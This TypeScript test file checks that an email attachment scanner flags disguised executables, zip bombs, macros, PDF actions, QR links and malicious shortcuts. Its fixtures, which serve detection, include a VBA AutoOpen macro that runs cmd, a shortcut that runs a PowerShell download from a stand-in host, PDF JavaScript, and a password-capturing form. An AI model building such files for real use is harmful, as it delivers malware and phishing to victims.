import assert from 'node:assert/strict';
import { test } from 'node:test';
import { deflateSync, gzipSync } from 'node:zlib';
import { zipOf } from '../../../test/collections.ts';
import {
  codesOf,
  compoundOf,
  mailWith,
  qrPicture,
  qrPng,
  read,
  readFile,
  vbaProject,
} from '../../../test/mail-writer.ts';
import { decompressVba } from '../ole/vba.ts';

const MACRO =
  'Attribute VB_Name = "Module1"\nSub AutoOpen()\nShell "cmd /c x"\nu = "http://x.example/a.exe"\nEnd Sub';

function member(name: string, text: string): { name: string; bytes: Buffer } {
  return { name, bytes: Buffer.from(text, 'latin1') };
}

test('files are told by their bytes, and names that pretend are told', () => {
  const cases: readonly (readonly [string, string, string | null, readonly string[]])[] = [
    ['a.pdf', 'MZ program', 'exe', ['executable', 'type-mismatch']],
    ['invoice.pdf.html', '<html>hello</html>', 'html', ['double-extension']],
    ['a\u202efdp.exe', 'MZ', 'exe', ['executable', 'misleading-name']],
    [
      'a.js',
      'var a = new ActiveXObject("WScript.Shell")',
      'script',
      ['executable', 'script', 'runs-program'],
    ],
    ['a.txt', 'plain words', 'text', []],
    ['a.rar', 'Rar!\u001a\u0007\u0001\u0000', 'rar', ['not-unpacked']],
    ['a.bin', '\u0000\u0001\u0002', null, []],
    ['a.asc', '-----BEGIN PGP MESSAGE-----\n', 'pgp', ['encrypted']],
  ];
  for (const [name, text, kind, traits] of cases) {
    const written = `=?utf-8?B?${Buffer.from(name).toString('base64')}?=`;
    const file = readFile(written, Buffer.from(text, 'latin1'));
    assert.deepEqual([file.name, file.kind, file.traits], [name, kind, traits]);
  }
});

test('archives: what is inside, also deeper, what is locked, and bombs are refused', () => {
  const inner = zipOf(member('b.html', '<form action="https://x.example/"><input type=password>'));
  const file = readFile('a.zip', zipOf(member('a.txt', 'hello'), { name: 'in.zip', bytes: inner }));
  assert.deepEqual(
    file.files.map(({ name, kind }) => [name, kind]),
    [
      ['a.txt', 'text'],
      ['in.zip', 'zip'],
    ],
  );
  assert.deepEqual(file.files[1]?.files[0]?.traits, ['form', 'form-password']);
  assert.equal(file.links[0]?.target, 'https://x.example/');
  const locked = readFile('a.zip', zipOf({ ...member('a.exe', 'MZ'), encrypted: true }));
  assert.deepEqual(locked.traits, ['encrypted']);
  assert.deepEqual([locked.files[0]?.name, locked.files[0]?.sha256], ['a.exe', '']);
  const packed = readFile('a.txt.gz', gzipSync('hello'));
  assert.deepEqual([packed.files[0]?.name, packed.files[0]?.text], ['a.txt', 'hello']);
  const bomb = zipOf({ name: 'zeros', bytes: Buffer.alloc(33_600_000) });
  assert.ok(codesOf(mailWith({ name: 'a.zip', bytes: bomb })).includes('packed-large'));
  let nested = zipOf(member('a.txt', 'x'));
  for (let level = 0; level < 12; level += 1) nested = zipOf({ name: 'n.zip', bytes: nested });
  assert.ok(codesOf(mailWith({ name: 'a.zip', bytes: nested })).includes('attachment-deep'));
  const cut = zipOf(member('a.txt', 'hello there')).subarray(0, 45);
  assert.ok(codesOf(mailWith({ name: 'a.zip', bytes: cut })).includes('packed-damaged'));
});

test('a disk image shows its files', () => {
  const image = Buffer.alloc(2_048 * 20);
  image.write('\u0001CD001', 16 * 2_048, 'latin1');
  image.writeUInt32LE(18, 16 * 2_048 + 158);
  image.writeUInt32LE(2_048, 16 * 2_048 + 166);
  image.write('\u00ffCD001', 17 * 2_048, 'latin1');
  const at = 18 * 2_048;
  image[at] = 44;
  image.writeUInt32LE(19, at + 2);
  image.writeUInt32LE(9, at + 10);
  image[at + 32] = 8;
  image.write('A.EXE;1 ', at + 33, 'latin1');
  image.write('MZprogram', 19 * 2_048);
  const file = readFile('a.iso', image);
  assert.deepEqual([file.kind, file.traits], ['iso', ['disk-image']]);
  assert.deepEqual(
    file.files.map(({ kind, bytes }) => [kind, bytes]),
    [['exe', 9]],
  );
});

test('VBA is unpacked as MS-OVBA shows it', () => {
  const packed = Buffer.from(
    '012fb00023616161626364658266007061676869' +
      '6a013808616b6c00306d6e6f70067102700410727374757610' +
      '7778797a003c',
    'hex',
  );
  assert.equal(
    decompressVba(packed, 100)?.toString(),
    '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa',
  );
});

test('Office documents, old and new: macros and what they would do', () => {
  const old = readFile(
    'a.doc',
    compoundOf({ WordDocument: Buffer.alloc(600), ...vbaProject(MACRO, 'Macros/') }),
  );
  const project = compoundOf(vbaProject(MACRO, ''));
  const made = readFile(
    'a.docm',
    zipOf(
      member('[Content_Types].xml', '<Types/>'),
      member(
        'word/document.xml',
        '<w:p><w:t>Enable content</w:t></w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c</w:instrText>',
      ),
      member(
        'word/_rels/settings.xml.rels',
        '<Relationship Type="x/attachedTemplate" Target="https://t.example/t.dotm" TargetMode="External"/>',
      ),
      { name: 'word/vbaProject.bin', bytes: project },
    ),
  );
  assert.deepEqual([old.kind, old.traits], ['doc', ['macro', 'auto-open', 'runs-program']]);
  assert.equal(old.links[0]?.target, 'http://x.example/a.exe');
  assert.equal(made.kind, 'docx');
  for (const trait of ['macro', 'auto-open', 'runs-program', 'external-template', 'dde']) {
    assert.ok(made.traits.includes(trait), trait);
  }
  assert.ok(made.links.some(({ target }) => target === 'https://t.example/t.dotm'));
  assert.match(made.text, /Enable content/);
});

test('workbooks: Excel 4 sheets; what is encrypted says so', () => {
  const sheet = Buffer.from('850008000000000001010000', 'hex');
  const book = readFile('a.xls', compoundOf({ Workbook: sheet }));
  assert.deepEqual([book.kind, book.traits], ['xls', ['excel4-macro', 'hidden-sheet']]);
  assert.deepEqual(readFile('a.docx', compoundOf({ EncryptedPackage: sheet })).traits, [
    'encrypted',
  ]);
});

function pdf(...objects: readonly string[]): Buffer {
  const body = objects.map((object, index) => `${index + 1} 0 obj\n${object}\nendobj\n`).join('');
  return Buffer.from(`%PDF-1.7\n${body}%%EOF`, 'latin1');
}

function pdfStream(keys: string, content: string | Buffer): string {
  const packed = deflateSync(content).toString('latin1');
  return `<< ${keys} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed}\nendstream`;
}

test('PDF: links, actions, embedded files and words, also packed and damaged', () => {
  const link = '<< /Type /Annot /A << /S /URI /URI (https://a.example/\\(x\\)) >> >>';
  const code = qrPicture('https://qr.example/p');
  const gray = Buffer.alloc(code.side * code.side, 255);
  for (let y = 0; y < code.side; y += 1) {
    for (let x = 0; x < code.side; x += 1) if (code.isDark(x, y)) gray[y * code.side + x] = 0;
  }
  const file = readFile(
    'a.pdf',
    pdf(
      link,
      '<< /OpenAction << /S /J#61vaScript /JS (app.launchURL\\("http://b.example/x"\\)) >> >>',
      pdfStream('/Type /ObjStm', '1 0 << /A << /URI <68747470733a2f2f632e6578616d706c652f> >> >>'),
      pdfStream('/Type /EmbeddedFile', 'MZ program'),
      pdfStream('', 'BT /F1 12 Tf (Scan the ) Tj [(co) -20 (de) -300 (now)] TJ ET'),
      pdfStream(
        `/Subtype /Image /Width ${code.side} /Height ${code.side} /BitsPerComponent 8 /ColorSpace /DeviceGray`,
        gray,
      ),
    ),
  );
  assert.deepEqual(
    file.links.map(({ where, target }) => `${where} ${target}`),
    [
      'attachment https://a.example/(x)',
      'attachment http://b.example/x',
      'attachment https://c.example/',
      'qr https://qr.example/p',
    ],
  );
  for (const trait of ['javascript', 'auto-open', 'embedded-file'])
    assert.ok(file.traits.includes(trait), trait);
  assert.equal(file.text, 'Scan the code now');
  assert.equal(file.files[0]?.kind, 'exe');
  const damaged = pdf(
    link,
    '<< /Filter /FlateDecode >>\nstream\nnot packed at all\nendstream',
  ).subarray(0, 180);
  assert.equal(readFile('a.pdf', damaged).links.length, 1);
  assert.ok(codesOf(mailWith({ name: 'a.pdf', bytes: damaged })).includes('pdf-damaged'));
  assert.ok(readFile('a.pdf', pdf('<< /Encrypt 2 0 R >>')).traits.includes('encrypted'));
});

test('a code in a picture is read, and too large a picture is not drawn', () => {
  const message = read(
    mailWith({ name: 'a.png', bytes: qrPng('https://qr.example/login'), type: 'image/png' }),
  );
  assert.deepEqual(
    message.links.map(({ where, target }) => [where, target]),
    [['qr', 'https://qr.example/login']],
  );
  assert.ok(message.traits.includes('qr-code') && message.traits.includes('picture-only'));
  assert.equal(
    read(qrPng('https://qr.example/'), 'picture').links[0]?.target,
    'https://qr.example/',
  );
  const huge = Buffer.from(qrPng('x'));
  huge.writeUInt32BE(60_000, 16);
  huge.writeUInt32BE(60_000, 20);
  assert.deepEqual(codesOf(mailWith({ name: 'a.png', bytes: huge })), ['picture-large']);
});

test('shortcuts, sessions, invitations and notes tell where they lead', () => {
  const shell = Buffer.alloc(76);
  Buffer.from('4c0000000114020000000000c000000000000046', 'hex').copy(shell);
  shell.writeUInt32LE(0xa0, 20);
  const text = 'powershell iwr https://a.example/x';
  const lnk = Buffer.concat([shell, Buffer.of(text.length, 0), Buffer.from(text, 'utf16le')]);
  const note = Buffer.concat([
    Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
    Buffer.alloc(64),
    Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
    Buffer.from('0200000000000000', 'hex'),
    Buffer.alloc(12),
    Buffer.from('MZ'),
  ]);
  const cases: readonly (readonly [string, Buffer, string, string, string | null])[] = [
    ['a.lnk', lnk, 'lnk', 'shortcut runs-program downloads', 'https://a.example/x'],
    [
      'a.url',
      Buffer.from('[InternetShortcut]\r\nURL=https://a.example/x\r\n'),
      'url',
      'shortcut',
      'https://a.example/x',
    ],
    [
      'a.rdp',
      Buffer.from('full address:s:a.example:3389\r\nredirectclipboard:i:1\r\n'),
      'rdp',
      'remote-desktop shares-drives',
      'rdp://a.example:3389',
    ],
    [
      'a.ics',
      Buffer.from('BEGIN:VCALENDAR\r\nDESCRIPTION:Join https://a.ex\r\n ample/x\r\nEND:VCALENDAR'),
      'ics',
      'calendar',
      'https://a.example/x',
    ],
    [
      'a.rtf',
      Buffer.from('{\\rtf1{\\*\\template http://a.example/x}{\\object\\objupdate}}'),
      'rtf',
      'embedded-file auto-open external-template',
      'http://a.example/x',
    ],
    ['a.one', note, 'onenote', 'embedded-file', null],
    [
      'a.svg',
      Buffer.from('<svg><script>location="https://a.example/x"</script></svg>'),
      'svg',
      'script redirect',
      'https://a.example/x',
    ],
  ];
  for (const [name, bytes, kind, traits, target] of cases) {
    const file = readFile(name, bytes);
    assert.deepEqual([file.kind, file.traits.join(' ')], [kind, traits], name);
    assert.equal(file.links[0]?.target ?? null, target, name);
  }
});

test('files Outlook packed into winmail.dat are found', () => {
  const attribute = (identifier: number, content: string): Buffer => {
    const head = Buffer.alloc(9);
    head[0] = 2;
    head.writeUInt32LE(identifier, 1);
    head.writeUInt32LE(content.length, 5);
    return Buffer.concat([head, Buffer.from(content, 'latin1'), Buffer.alloc(2)]);
  };
  const file = readFile(
    'winmail.dat',
    Buffer.concat([
      Buffer.from('789f3e220100', 'hex'),
      attribute(0x00069002, ''),
      attribute(0x0006800f, 'hello'),
      attribute(0x00018010, 'a.txt\0'),
    ]),
  );
  assert.deepEqual(
    file.files.map(({ name, text }) => [name, text]),
    [['a.txt', 'hello']],
  );
});
